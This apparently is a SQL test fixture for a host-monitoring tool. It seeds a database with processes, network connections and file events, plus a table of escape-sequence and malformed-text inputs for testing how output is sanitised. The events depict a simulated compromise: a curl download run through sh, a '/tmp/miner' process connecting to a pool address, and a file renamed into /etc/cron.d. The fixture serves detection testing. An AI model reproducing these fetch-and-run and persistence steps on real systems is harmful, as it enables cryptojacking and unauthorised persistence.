-- A small store for the shell's tests: one boot, a login session, a web server, a database.
-- Times are 2026-11-22, minutes after 03:00 UTC; 1795316400000000000 is 03:00:00.
INSERT INTO hosts
    (id, hostname, machine_id, boot_id, booted_at, kernel, os, arch, first_seen_at, last_seen_at)
VALUES
    (1, 'web1', 'f00dfeedf00dfeedf00dfeedf00dfeed', '00000000-0000-4000-8000-000000000001',
     1795312800000000000, '6.1.0-28-amd64', 'Debian GNU/Linux 12 (bookworm)', 'x86_64',
     1795316400000000000, 1795320000000000000);
INSERT INTO recorders
    (id, host_id, pid, version, started_at, last_seen_at, ended_at, cgroup, late)
VALUES
    (1, 1, 700, '0.1.0', 1795316400000000000, 1795320000000000000, 1795320000000000000, NULL, 3);
INSERT INTO probes (id, recorder_id, name, tier, error, recursion_misses) VALUES
    (1, 1, 'sched_process_fork', 'base', NULL, 0),
    (2, 1, 'sched_process_exec', 'base', NULL, 0),
    (3, 1, 'inet_csk_accept', 'base', 'no such function in this kernel', 0);

INSERT INTO processes
    (id, host_id, pid, ppid, parent_id, started_at, ended_at, exit_code, exit_signal, origin, comm,
     exe, cmdline, user, uid, euid, depth)
VALUES
    (1, 1, 1, 0, NULL, 1795312800000000000, NULL, NULL, NULL, 'scan', 'init', '/sbin/init',
     '/sbin/init', 'root', 0, 0, 0),
    (2, 1, 400, 1, 1, 1795312860000000000, NULL, NULL, NULL, 'scan', 'sshd', '/usr/sbin/sshd',
     'sshd: /usr/sbin/sshd -D', 'root', 0, 0, 1),
    (3, 1, 500, 1, 1, 1795312920000000000, NULL, NULL, NULL, 'scan', 'nginx', '/usr/sbin/nginx',
     'nginx: master process /usr/sbin/nginx', 'root', 0, 0, 1),
    (4, 1, 501, 500, 3, 1795312921000000000, NULL, NULL, NULL, 'scan', 'nginx', '/usr/sbin/nginx',
     'nginx: worker process', 'www-data', 33, 33, 2),
    (5, 1, 812, 400, 2, 1795316700000000000, NULL, NULL, NULL, 'event', 'sshd', '/usr/sbin/sshd',
     'sshd: ana [priv]', 'root', 0, 0, 2),
    (6, 1, 815, 812, 5, 1795316701500000000, NULL, NULL, NULL, 'event', 'bash', '/usr/bin/bash',
     '-bash', 'ana', 1000, 1000, 3),
    (7, 1, 900, 815, 6, 1795317120000000000, 1795317121000000000, 0, 0, 'event', 'curl',
     '/usr/bin/curl', 'curl -s https://example.org/install.sh', 'ana', 1000, 1000, 4),
    (8, 1, 901, 815, 6, 1795317120250000000, 1795317180000000000, 1, 0, 'event', 'sh',
     '/usr/bin/dash', 'sh', 'ana', 1000, 1000, 4),
    (9, 1, 910, 901, 8, 1795317130000000000, 1795317150000000000, NULL, 9, 'event', 'miner',
     '/tmp/miner', '/tmp/miner --pool 203.0.113.9:3333 --quiet', 'ana', 1000, 1000, 5),
    (10, 1, 900, 815, 6, 1795318200000000000, 1795318260000000000, 0, 0, 'event', 'curl',
     '/usr/bin/curl', 'curl -sI http://10.0.0.5/', 'ana', 1000, 1000, 4),
    (11, 1, 950, 400, 2, 1795318800000000000, NULL, NULL, NULL, 'event', 'curl',
     '/opt/odd/curl', 'curl --version', 'root', 0, 0, 2);

INSERT INTO execs (id, process_id, at, filename, exe, argv, argc, cwd, uid, euid)
SELECT id, id, started_at, exe, exe, json_array(cmdline), 1, '/', uid, euid
FROM processes WHERE origin = 'event';

INSERT INTO listeners
    (id, process_id, protocol, address, port, started_at, ended_at, net_ns, origin, cookie, host_id)
VALUES
    (1, 2, 'tcp', '0.0.0.0', 22, 1795312860000000000, NULL, 4026531840, 'scan', 11, 1),
    (2, 3, 'tcp', '0.0.0.0', 8080, 1795312920000000000, NULL, 4026531840, 'scan', 12, 1),
    (3, 3, 'tcp', '::1', 8081, 1795312920000000000, NULL, 4026531840, 'scan', 13, 1);
INSERT INTO connections
    (id, host_id, process_id, protocol, direction, local_address, local_port, remote_address,
     remote_port, remote_name, started_at, established_at, ended_at, state, bytes_sent,
     bytes_received, listener_id, peer_id, peer_process_id, net_ns, origin, cookie)
VALUES
    (1, 1, 5, 'tcp', 'in', '10.0.0.2', 22, '198.51.100.7', 50022, NULL, 1795316700000000000,
     1795316700000000000, NULL, 'open', 4096, 8192, 1, NULL, NULL, 4026531840, 'event', 21),
    (2, 1, 7, 'tcp', 'out', '10.0.0.2', 41000, '93.184.216.34', 443, 'example.org',
     1795317120500000000, 1795317120600000000, 1795317121000000000, 'closed', 512, 20480, NULL,
     NULL, NULL, 4026531840, 'event', 22),
    (3, 1, 9, 'tcp', 'out', '10.0.0.2', 41002, '203.0.113.9', 3333, NULL, 1795317131000000000,
     1795317131100000000, 1795317150000000000, 'reset', 100, 200, NULL, NULL, NULL, 4026531840,
     'event', 23),
    (4, 1, 10, 'tcp', 'out', '127.0.0.1', 41010, '127.0.0.1', 8080, NULL, 1795318201000000000,
     1795318201000000000, 1795318202000000000, 'closed', 80, 600, NULL, 5, 4, 4026531840, 'event',
     24),
    (5, 1, 4, 'tcp', 'in', '127.0.0.1', 8080, '127.0.0.1', 41010, NULL, 1795318201000000000,
     1795318201000000000, 1795318202000000000, 'closed', 600, 80, 2, 4, 10, 4026531840, 'event',
     25),
    (6, 1, 10, 'tcp', 'out', NULL, NULL, '10.0.0.5', 80, NULL, 1795318203000000000, NULL,
     1795318203100000000, 'refused', 0, 0, NULL, NULL, NULL, 4026531840, 'event', 26),
    (7, 1, NULL, 'tcp', 'in', '10.0.0.2', 22, '198.51.100.99', 51000, NULL, 1795318204000000000,
     NULL, 1795318205000000000, 'closed', 0, 0, NULL, NULL, NULL, 4026531840, 'event', 27),
    (8, 1, 7, 'tcp', 'out', '2001:db8::2', 41003, '2001:db8::5', 443, NULL, 1795317120700000000,
     NULL, 1795317121000000000, 'closed', 0, 0, NULL, NULL, NULL, 4026531840, 'event', 28);

INSERT INTO containers (id, container_id, runtime, name, image, root_process_id, started_at, ended_at,
                        host_id) VALUES
    (1, '4f797c539e6c0000000000000000000000000000000000000000000000000001', 'docker', 'web',
     'nginx:1.26', 2, 1795312920000000000, 1795312930000000000, 1),
    (2, '605439acbd4f0000000000000000000000000000000000000000000000000002', 'docker', 'web',
     'nginx:1.27', 3, 1795312940000000000, NULL, 1);

-- curl writes a program under another name, sh makes it executable, init.d's script runs.
INSERT INTO files (id, host_id, process_id, at, last_at, op, path, old_path, device, inode, mode) VALUES
    (1, 1, 7, 1795317120400000000, 1795317120900000000, 'write', '/tmp/miner', '/tmp/.part', '8:1',
     77, 33188),
    (2, 1, 8, 1795317125000000000, NULL, 'chmod', '/tmp/miner', NULL, '8:1', 77, 493),
    (3, 1, 8, 1795317126000000000, NULL, 'rename', '/etc/cron.d/job', '/tmp/job', '8:1', 78, NULL);
INSERT INTO execs (id, process_id, at, filename, exe, script, error) VALUES
    (20, 11, 1795318801000000000, '/opt/run.sh', '/usr/bin/dash', '/opt/run.sh', NULL),
    (21, 6, 1795318802000000000, '/opt/run.sh', NULL, '/opt/run.sh', 'EACCES');

INSERT INTO edges (id, host_id, at, last_at, count, kind, src, dst)
SELECT id, host_id, started_at, started_at, 1, 'fork', parent_id, id
FROM processes WHERE parent_id IS NOT NULL;
INSERT INTO edges (id, host_id, at, last_at, count, kind, src, dst, connection_id) VALUES
    (20, 1, 1795318201000000000, 1795318201000000000, 1, 'connect', 10, 4, 4);

INSERT INTO losses (id, started_at, ended_at, class, stage, count, detail) VALUES
    (1, 1795317000000000000, 1795317060000000000, 'network', 'ring', 12, NULL),
    (2, 1795317300000000000, 1795317360000000000, 'network', 'ring', 30, NULL),
    (3, 1795316000000000000, 1795316400000000000, 'down', 'recorder', NULL, 'not running');

-- A view over our own functions: they must work there although the schema is not trusted.
CREATE VIEW readable AS SELECT id, iso(started_at) AS started, basename(exe) AS program
FROM processes;
-- What hostile programs leave behind. STRICT and outside our schema on purpose.
CREATE TABLE hostile (id INTEGER PRIMARY KEY, what TEXT, value ANY) STRICT;
INSERT INTO hostile VALUES
    (1, 'escape', 'a' || char(27) || '[31mred' || char(27) || ']0;title' || char(7) || 'z'),
    (2, 'newline', 'one' || char(10) || 'two' || char(13) || 'three' || char(9) || 'four'),
    (3, 'bidi', 'abc' || char(0x202e) || 'fed' || char(0x2066) || 'x' || char(0x200b) || 'y'),
    (4, 'invalid', CAST(x'61ff9b62c3' AS TEXT)),
    (5, 'c1', 'a' || char(0x9b) || '31m' || char(127)),
    (6, 'nul', 'a' || char(0) || 'b'),
    (7, 'blob', x'00ff41'),
    (8, 'empty', ''),
    (9, 'null', NULL),
    (10, 'quotes', 'say "hi", it''s'),
    (11, 'wide', '日本語テキスト'),
    (12, 'integer', 9223372036854775807),
    (13, 'real', 0.1),
    (14, 'tags', 'x' || char(0xe0041) || char(0x2028) || 'y'),
    (15, 'backslash', 'C:\temp'),
    (16, 'overlong', CAST(x'c0afe0809feda080' AS TEXT));
